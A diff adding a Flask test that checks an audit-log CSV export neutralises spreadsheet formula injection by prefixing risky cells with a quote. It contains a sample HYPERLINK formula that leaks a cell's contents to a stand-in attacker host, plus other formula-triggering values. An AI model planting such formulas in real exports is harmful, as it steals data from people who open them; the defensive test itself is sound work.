@@ -47,3 +47,17 @@ def test_filter_and_export(client: FlaskClient, session: Session) -> None:
     assert (
         session.exec(select(AuditEvent).where(AuditEvent.action == "audit.exported")).one().actor == "admin@example.org"
     )
+
+
+def test_audit_csv_cells_never_run_as_formulas(client: FlaskClient, session: Session) -> None:
+    """An actor or target typed by someone else (a login e-mail, an upload's name) is text in Excel."""
+    make_user(session, email="admin@example.org", role="admin")
+    login(client, email="admin@example.org")
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
+    session.add(AuditEvent(action="user.locked", actor=formula, target_type="+user", target_id="-1+1", ip_address="@x"))
+    session.commit()
+    body = client.get("/audit.csv?action=user.locked").get_data(as_text=True)
+    (row,) = list(csv.DictReader(io.StringIO(body, newline="")))
+    assert row["actor"] == "'" + formula
+    assert (row["target_type"], row["target_id"], row["ip_address"]) == ("'+user", "'-1+1", "'@x")
+    assert row["action"] == "user.locked" and row["detail"] == "{}"
